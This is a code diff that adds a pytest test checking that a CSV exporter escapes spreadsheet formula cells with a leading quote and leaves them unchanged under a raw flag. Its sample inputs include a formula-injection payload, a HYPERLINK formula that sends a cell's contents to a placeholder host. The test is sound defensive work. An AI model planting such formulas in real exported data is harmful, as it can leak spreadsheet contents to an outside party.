@@ -282,3 +282,20 @@ def test_into_a_table_with_a_repeated_column_is_refused_naming_it(files: dict[st
     with pytest.raises(InputError, match="bad dataset table") as caught:
         export([str(responses)], str(d / "o.parquet"), into=str(pq_base), on="task_id")
     assert [(p.field, p.line) for p in caught.value.problems] == [("v", None)]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path: Path) -> None:
+    evil = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain -1"]
+    responses = write_jsonl(
+        tmp_path / "r.jsonl", [chat_line(f"=id{i}", text) for i, text in enumerate(evil)]
+    )
+    out = tmp_path / "t.csv"
+    assert run(responses, "-o", out, "--column", "custom_id", "--column", "answer").returncode == 0
+    with open(out, newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["answer"] for r in rows] == ["'" + t for t in evil[:5]] + ["plain -1"]
+    assert all(r["custom_id"].startswith("'=id") for r in rows)
+    raw = run(responses, "-o", out, "--csv-raw", "--column", "answer")
+    assert raw.returncode == 0, raw.stderr
+    with open(out, newline="") as f:
+        assert [r["answer"] for r in csv.DictReader(f)] == evil
